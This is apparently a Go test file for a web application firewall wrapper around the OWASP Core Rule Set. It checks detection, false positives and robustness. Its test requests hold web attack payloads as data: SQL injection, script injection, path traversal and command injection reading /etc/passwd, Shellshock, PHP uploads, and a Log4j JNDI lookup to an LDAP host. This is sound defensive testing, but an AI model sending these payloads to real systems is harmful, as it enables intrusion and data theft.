package waf

import (
	"bytes"
	"cmp"
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/corazawaf/coraza/v3"
	"github.com/corazawaf/coraza/v3/types"

	"github.com/why403/why403/flow"
	"github.com/why403/why403/flow/diff"
)

// engine runs what the tests ask for; loading takes its time.
var engine Engine

// request makes a flow of the text of a request. A body ends without a line break.
func request(text string) *flow.Flow {
	head, body, _ := strings.Cut(text, "\n\n")
	line, rest, _ := strings.Cut(head, "\n")
	p := strings.Split(line, " ")
	f := &flow.Flow{Scheme: "https", Authority: "shop.test"}
	f.Request = &flow.Message{Proto: "HTTP/1.1", Method: p[0], Target: p[1]}
	for l := range strings.SplitSeq("Host: shop.test\n"+rest+"\nUser-Agent: Mozilla/5.0\nAccept: */*", "\n") {
		if n, v, ok := strings.Cut(l, ": "); ok && (n != "User-Agent" || !f.Request.Header.Has(n)) {
			f.Request.Header.Add(n, v)
		}
	}
	f.Request.SetBody([]byte(body))
	return f
}

func runOn(t testing.TB, f *flow.Flow) Result {
	t.Helper()
	r, err := engine.Run(context.Background(), f)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// place is the text that a hit's Where names.
func textOf(f *flow.Flow, where string) (string, bool) {
	switch name, header := strings.CutPrefix(where, "request.header:"); {
	case header:
		return f.Request.Header.Lookup(name)
	case where == "request.url":
		return f.URL(), true
	case where == "request.body":
		return string(f.Request.Body.Data), true
	}
	return "", false
}

const (
	jsonHead = "POST /posts HTTP/1.1\nContent-Type: application/json\n\n"
	formHead = "POST /posts HTTP/1.1\nContent-Type: application/x-www-form-urlencoded\n\n"
	partHead = "POST /posts HTTP/1.1\nContent-Type: multipart/form-data; boundary=xx\n\n"
)

// TestRequests runs requests of all kinds. A line of want is a rule of level 1 with its place and
// what it matched; "" is none that reaches the threshold.
func TestRequests(t *testing.T) {
	for _, c := range []struct{ name, request, want string }{
		{"SQL in JSON", jsonHead + `{"q":"1 UNION SELECT name, password FROM users--"}`, `942270 the JSON field q: UNION SELECT name, password FROM`},
		{"SQL deep in JSON", jsonHead + `{"a":[{"b":"x"},{"b":"x' OR 1=1 -- "}]}`, `942100 the JSON field a[1].b: x' OR 1=1 -- `},
		{"SQL written with escapes", jsonHead + `{"q":"x\u0027 OR 1=1 -- "}`, `942100 the JSON field q: x' OR 1=1 -- `},
		{"SQL in a form", formHead + "page=2&name=x%27+OR+1%3D1--+-", `942100 the form field name: x' OR 1=1-- -`},
		{"SQL in the query", "GET /posts?id=1%20AND%20SLEEP(5) HTTP/1.1\n\n", `942160 the query parameter id: SLEEP(5)`},
		{"a script in JSON", jsonHead + `{"html":"<p>hi</p><script src=\"/a.js\"><\/script>"}`, `941110 the JSON field html: <script src="/a.js">`},
		{"a script in a multipart field", partHead + "--xx\r\nContent-Disposition: form-data; name=\"text\"\r\n\r\n<script>alert(1)</script>\r\n--xx--\r\n", `941110 the form field text: <script>`},
		{"a script escaped twice", "GET /?q=%253Cscript%253Ealert(1) HTTP/1.1\n\n", `941110 the query parameter q: %3Cscript%3E`},
		{"a handler in small and capital letters", formHead + "a=%3Cimg+src%3Dx+oNeRRor%3Dalert(1)%3E", `941120 the form field a:  oNeRRor=a`},
		{"a path that climbs, in a form", formHead + "file=../../../../etc/passwd", `930120 the form field file: etc/passwd`},
		{"a path that climbs, in the path", "GET /files/../../etc/passwd HTTP/1.1\n\n", `930100 the URL: /../`},
		{"a command", formHead + "cmd=;cat /etc/passwd", `932160 the form field cmd: etc/passwd`},
		{"PHP", formHead + "tpl=%3C%3Fphp+echo+1%3B+%3F%3E", `933100 the form field tpl: <?php `},
		{"Log4j", formHead + "name=${jndi:ldap://192.0.2.1/a}", `932130 the form field name: ${jndi:ldap://192.0.2.1/a}`},
		{"Log4j in a header", "GET / HTTP/1.1\nX-Api-Version: ${jndi:ldap://192.0.2.1/a}\n\n", `944150 the header X-Api-Version: ${jndi:ldap://192.0.2.1/a}`},
		{"Java", jsonHead + `{"x":"java.lang.Runtime"}`, `944100 the JSON field x: java.lang.Runtime`},
		{"a cookie", "GET / HTTP/1.1\nCookie: sid=1; q=<script>alert(1)</script>; z=2\n\n", `941110 the cookie q: <script>`},
		{"a shell in a header", "GET / HTTP/1.1\nReferer: () { :; }; echo\n\n", `932170 the header Referer: () {`},
		{"a scanner", "GET / HTTP/1.1\nUser-Agent: sqlmap/1.7\n\n", `913100 the header User-Agent: sqlmap`},
		{"a method", "PUT /orders/7 HTTP/1.1\nContent-Type: application/json\n\n{}", `911100 the method PUT: `},
		{"a content type", "POST /orders HTTP/1.1\nContent-Type: application/x-protobuf\n\nabc", `920420 the header Content-Type: application/x-protobuf`},
		{"a restricted header", "POST /orders HTTP/1.1\nContent-Type: application/json\nX-HTTP-Method-Override: PUT\n\n{}", `920450 the header X-HTTP-Method-Override: PUT`},
		{"a coded body, decoded", "POST /orders HTTP/1.1\nContent-Type: application/json\nContent-Encoding: gzip\n\n" + `{"q":"x' OR 1=1 -- "}`, `942100 the JSON field q: x' OR 1=1 -- `},
		{"a backup file", "GET /config.php.bak HTTP/1.1\n\n", `920440 the path: .bak`},
		{"the name of a file", partHead + "--xx\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\n<?php evil(); ?>\r\n--xx--\r\n", `933110 the name of the file a.php: a.php`},
		{"the name of an argument", "GET /?%3Cscript%3E=1 HTTP/1.1\n\n", `941110 the name of the query parameter <script>: <script>`},
		{"XML", "POST /soap HTTP/1.1\nContent-Type: application/xml\n\n<a><b>x' OR 1=1 -- </b></a>", `942100 the XML body: <a><b>x' OR 1=1 -- </b></a>`},

		{"plain words", jsonHead + `{"note":"two cups of tea","qty":2}`, ""},
		{"words of SQL in a sentence", jsonHead + `{"comment":"select a gift from the list"}`, ""},
		{"a name with an apostrophe", formHead + "name=Miles+O%27Brien", ""},
		{"an address with an apostrophe", jsonHead + `{"email":"miles.o'brien@example.com"}`, ""},
		{"a link in Markdown", jsonHead + `{"text":"see [the guide](https://example.com/guide)"}`, ""},
		{"a link one folder up", jsonHead + `{"text":"see [the guide](../guide.md)"}`, ""},
		{"the content of a file", partHead + "--xx\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\nContent-Type: text/plain\r\n\r\n<script>alert(1)</script> ../../etc/passwd\r\n--xx--\r\n", ""},
		// What the rules flag though it is harmless: known false positives.
		{"a relative link in Markdown", jsonHead + `{"text":"see [the guide](../../guide.md)"}`, `930100 the JSON field text: /../`},
		{"a template", jsonHead + `{"text":"total: $(price)"}`, `932130 the JSON field text: $(price)`},
	} {
		t.Run(c.name, func(t *testing.T) {
			f := request(c.request)
			r := runOn(t, f)
			var got []string
			for _, h := range r.Hits {
				if h.Quote != "" {
					text, ok := textOf(f, h.Where)
					if !ok || h.Offset < 0 || h.Offset > len(text) || !strings.HasPrefix(text[h.Offset:], h.Quote) {
						t.Errorf("%d quotes %q of %s at %d, which is not there", h.Rule, h.Quote, h.Where, h.Offset)
					}
				}
				if h.Level == 1 {
					got = append(got, fmt.Sprintf("%d %s: %s", h.Rule, h.Place, h.Text))
				}
			}
			if c.want == "" {
				if r.Score >= Threshold {
					t.Errorf("score %d: %q", r.Score, got)
				}
				return
			}
			if !slices.Contains(got, c.want) || r.Score < Threshold {
				t.Errorf("score %d, want %q among\n%s", r.Score, c.want, strings.Join(got, "\n"))
			}
		})
	}
}

func TestTheVersionIsThatOfTheRules(t *testing.T) {
	f := request("PUT / HTTP/1.1\n\n")
	if err := engine.ready(); err != nil {
		t.Fatal(err)
	}
	tx := engine.rules.NewTransaction()
	defer tx.Close()
	tx.ProcessURI(f.Request.Target, f.Request.Method, f.Request.Proto)
	tx.ProcessRequestHeaders()
	for _, m := range tx.MatchedRules() {
		if m.Rule().ID() == 911100 && m.Rule().Version() != "OWASP_CRS/"+Version {
			t.Errorf("the rules are %s", m.Rule().Version())
		}
	}
}

func TestAnswersAreTheSameEachTime(t *testing.T) {
	f := request(formHead + "a=<script>&b=<script>&c=<script>&d=x' or 1=1--&e=../../etc/passwd")
	first := fmt.Sprint(runOn(t, f))
	for range 20 {
		if again := fmt.Sprint(runOn(t, f)); again != first {
			t.Fatalf("first\n%s\nthen\n%s", first, again)
		}
	}
}

func TestRulesOfLevel2AreNotCounted(t *testing.T) {
	r := runOn(t, request(jsonHead+`{"text":"see /* this */ and that"}`))
	if r.Score != 0 || r.Beyond < Threshold || len(r.Hits) == 0 || r.Hits[0].Level != 2 {
		t.Errorf("got %+v", r)
	}
}

func TestHitsOfAnAcceptedRequestAreShared(t *testing.T) {
	refused := runOn(t, request(jsonHead+`{"a":"x' OR 1=1 -- ","b":"<script>alert(1)</script>"}`))
	refused.Compare(runOn(t, request(jsonHead+`{"b":"<script>alert(2)</script>"}`)))
	for _, h := range refused.Hits {
		if xss := h.Rule/1000 == 941; h.Level == 1 && h.Shared != xss {
			t.Errorf("%d shared: %v", h.Rule, h.Shared)
		}
	}
}

// A trial leaves out what the rules flag and no more than that.
func TestTrial(t *testing.T) {
	for _, c := range []struct{ name, request, want string }{
		{"bytes in JSON", jsonHead + `{"text":"total: $(price) or so","n":1}`, `{"text":"total:  or so","n":1}`},
		{"a whole value", formHead + "a=1&name=x%27+OR+1%3D1--+-&b=2", "a=1&name=&b=2"},
		{"a multipart field", partHead + "--xx\r\nContent-Disposition: form-data; name=\"t\"\r\n\r\nsay $(price) now\r\n--xx--\r\n", "--xx\r\nContent-Disposition: form-data; name=\"t\"\r\n\r\nsay  now\r\n--xx--\r\n"},
		{"a coded body", "POST / HTTP/1.1\nContent-Type: application/json\n\n" + `{"a":"$(x)","b":["$(y)"]}`, `{"a":"","b":[""]}`},
		{"a header", "GET / HTTP/1.1\nX-Api-Version: ${jndi:ldap://192.0.2.1/a}\n\n", ""},
		{"a method", "PUT / HTTP/1.1\nContent-Type: application/json\n\n{}", ""},
		{"nothing flagged", jsonHead + `{"a":1}`, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			f := request(c.request)
			cuts := engine.Trial(context.Background(), f, runOn(t, f))
			if c.want == "" {
				if cuts != nil {
					t.Errorf("got %+v", cuts)
				}
				return
			}
			var patch flow.Patch
			for _, k := range cuts {
				patch = append(patch, k.Change)
			}
			changed, err := diff.ApplyTo(f, patch)
			if err != nil {
				t.Fatal(err)
			}
			if got := string(changed.Request.Body.Data); got != c.want {
				t.Errorf("got %q, want %q", got, c.want)
			}
			if r := runOn(t, changed); r.Score >= Threshold {
				t.Errorf("it is still flagged: %+v", r)
			}
		})
	}
}

func TestLargeAndBrokenRequests(t *testing.T) {
	long := strings.Repeat("x' OR 1=1 -- <script> ", 20_000)
	for name, f := range map[string]*flow.Flow{
		"a long body":        request(formHead + "a=" + long),
		"deep JSON":          request(jsonHead + strings.Repeat("[", 100_000)),
		"many arguments":     request(formHead + strings.Repeat("a=<script>&", 30_000)),
		"a long target":      request("GET /?q=" + strings.ReplaceAll(long, " ", "+") + " HTTP/1.1\n\n"),
		"a long header":      request("GET / HTTP/1.1\nX-Long: " + long + "\n\n"),
		"many headers":       request("GET / HTTP/1.1\n" + strings.Repeat("X-Many: <script>\n", 5000) + "\n"),
		"no boundary":        request("POST / HTTP/1.1\nContent-Type: multipart/form-data\n\n--xx"),
		"invalid UTF-8":      request(jsonHead + "{\"a\":\"\xff\xfe<script>\"}"),
		"an absolute target": request("GET http://shop.test/?q=<script> HTTP/1.1\n\n"),
		"an asterisk":        request("OPTIONS * HTTP/1.1\n\n"),
	} {
		r := runOn(t, f)
		if cut := len(f.Request.Body.Data) > maxBody || len(f.Request.Target) > maxTarget || len(f.Request.Header) > maxFields || len(f.Request.Header.Get("X-Long")) > maxField; r.Cut != cut {
			t.Errorf("%s: cut is %v", name, r.Cut)
		}
		for _, h := range r.Hits {
			if len(h.Quote) > maxQuote || len(h.Text) > maxQuote {
				t.Errorf("%s: %d quotes %d bytes", name, h.Rule, len(h.Quote))
			}
		}
		if len(r.Hits) > maxHits {
			t.Errorf("%s: %d hits", name, len(r.Hits))
		}
	}
}

func TestEndedContext(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := engine.Run(ctx, request("GET / HTTP/1.1\n\n")); !errors.Is(err, context.Canceled) {
		t.Errorf("got %v", err)
	}
	if _, err := engine.Run(context.Background(), &flow.Flow{}); err == nil {
		t.Error("an answer without a request was run")
	}
}

// The rules are there from the first request on, and go after a while without any.
func TestTheRulesComeAndGo(t *testing.T) {
	e := Engine{Idle: time.Millisecond}
	if e.Loaded() {
		t.Error("loaded before there was a request")
	}
	for n := 1; n <= 2; n++ {
		r, err := e.Run(context.Background(), request(formHead+"a=<script>"))
		if err != nil || r.Score < Threshold || e.loads != n {
			t.Fatalf("%v, score %d, %d loads", err, r.Score, e.loads)
		}
		for deadline := time.Now().Add(20 * time.Second); e.Loaded(); time.Sleep(time.Millisecond) {
			if time.Now().After(deadline) {
				t.Fatal("the rules stay")
			}
		}
	}
	e.Close()
}

func TestAFailureIsAnError(t *testing.T) {
	t.Setenv("TMPDIR", t.TempDir()+"/none") // where Coraza wants to be able to write
	var e Engine
	defer e.Close()
	for range 2 {
		if _, err := e.Run(context.Background(), request("GET / HTTP/1.1\n\n")); err == nil || !strings.Contains(err.Error(), "load the Core Rule Set") {
			t.Errorf("got %v", err)
		}
	}
	if e.loads != 1 {
		t.Errorf("tried %d times", e.loads)
	}
}

// broken are rules that panic.
type broken struct{ coraza.WAF }

func (broken) NewTransactionWithID(string) types.Transaction { panic("index out of range") }

func TestAPanicIsAnErrorAndNoMore(t *testing.T) {
	e := Engine{rules: broken{}}
	defer e.Close()
	f := request(formHead + "a=<script>")
	if _, err := e.Run(context.Background(), f); err == nil || !strings.Contains(err.Error(), "run the Core Rule Set 4.25.0: index out of range") {
		t.Errorf("got %v", err)
	}
	if r, err := e.Run(context.Background(), f); err != nil || r.Score < Threshold {
		t.Errorf("the next one: %v, score %d", err, r.Score)
	}
}

// No content of a file reaches Coraza, which would write it to a temporary file.
func TestFilesAreNotWritten(t *testing.T) {
	body := "--xx\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nkept\r\n--xx\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\nsecret\r\n--xx\r\nContent-Disposition: form-data; name=\"g\"; filename*=UTF-8''b.txt\r\n\r\nsecret\r\n--xx--\r\n"
	got := newInput(request(partHead + body)).body
	if bytes.Contains(got, []byte("secret")) || !bytes.Contains(got, []byte("kept")) || !bytes.Contains(got, []byte("a.txt")) || !bytes.HasSuffix(got, []byte("--xx--\r\n")) {
		t.Errorf("got %q", got)
	}
}

func TestPiecesAreFoundInWhatWasSent(t *testing.T) {
	for _, c := range []struct {
		raw   string
		coded coding
		piece string
		want  string
	}{
		{"a<script>b", plain, "<script>", "<script>"},
		{"a<SCRIPT>b", plain, "<script>", "<SCRIPT>"},
		{"a%3CScript%3Eb", form, "<script>", "%3CScript%3E"},
		{"a%253Cscript%253Eb", form, "<script>", "%253Cscript%253E"},
		{"1+union+select", form, "union select", "union+select"},
		{`a\u003cscript\u003eb`, jsonString, "<script>", `\u003cscript\u003e`},
		{`a\"onload=\"b`, jsonString, `"onload="`, `\"onload=\"`},
		{`\ud83d\ude00 tea`, jsonString, "😀", `\ud83d\ude00`},
		{"x;  c\\at   /etc/passwd!", plain, "; cat /etc/passwd", ";  c\\at   /etc/passwd"},
		{"charset=utf-7;x", plain, "|UTF 7|", "utf-7"},
		{"nothing of it", plain, "<script>", ""},
		{"abc", plain, "'", ""},
	} {
		d := mapped(source{raw: c.raw, coded: c.coded})
		from, to, ok := d.find(c.piece)
		if got := c.raw[from:to]; ok != (c.want != "") || got != c.want {
			t.Errorf("%q in %q: got %q, %v", c.piece, c.raw, got, ok)
		}
	}
}

// FuzzRun wants no panic, and each quotation where it says it is.
func FuzzRun(f *testing.F) {
	f.Add("POST", "/a?b=%3Cscript%3E", "application/json", []byte(`{"a":"x' OR 1=1 -- "}`), "sid=1; q=${jndi:x}")
	f.Add("PUT", "/../etc/passwd", "multipart/form-data; boundary=x", []byte("--x\r\nContent-Disposition: form-data; name=a; filename=\"b.php\"\r\n\r\nc\r\n--x--"), "")
	f.Add("GET", "*", "text/xml", []byte("<a b='c'>&lt;script></a>"), "=")
	f.Add("", "", "", []byte{}, "")
	f.Fuzz(func(t *testing.T, method, target, contentType string, body []byte, cookie string) {
		fl := &flow.Flow{Scheme: "http", Authority: "shop.test", Request: &flow.Message{Method: method, Target: target}}
		fl.Request.Header.Add("Content-Type", contentType)
		fl.Request.Header.Add("Cookie", cookie)
		fl.Request.SetBody(body)
		r, err := engine.Run(context.Background(), fl)
		if err != nil {
			if cmp.Or(method, "") != "" {
				t.Fatal(err)
			}
			return
		}
		for _, h := range r.Hits {
			if h.Quote == "" {
				continue
			}
			if text, ok := textOf(fl, h.Where); !ok || h.Offset < 0 || h.Offset > len(text) || !strings.HasPrefix(text[h.Offset:], h.Quote) {
				t.Errorf("%d quotes %q of %s at %d", h.Rule, h.Quote, h.Where, h.Offset)
			}
		}
		engine.Trial(context.Background(), fl, r)
	})
}

func BenchmarkRun(b *testing.B) {
	f := request(jsonHead + `{"name":"tea","qty":2,"note":"two cups, if you please","tags":["a","b"]}`)
	runOn(b, f)
	for b.Loop() {
		runOn(b, f)
	}
}

func BenchmarkLoad(b *testing.B) {
	for b.Loop() {
		if _, err := load(); err != nil {
			b.Fatal(err)
		}
	}
}
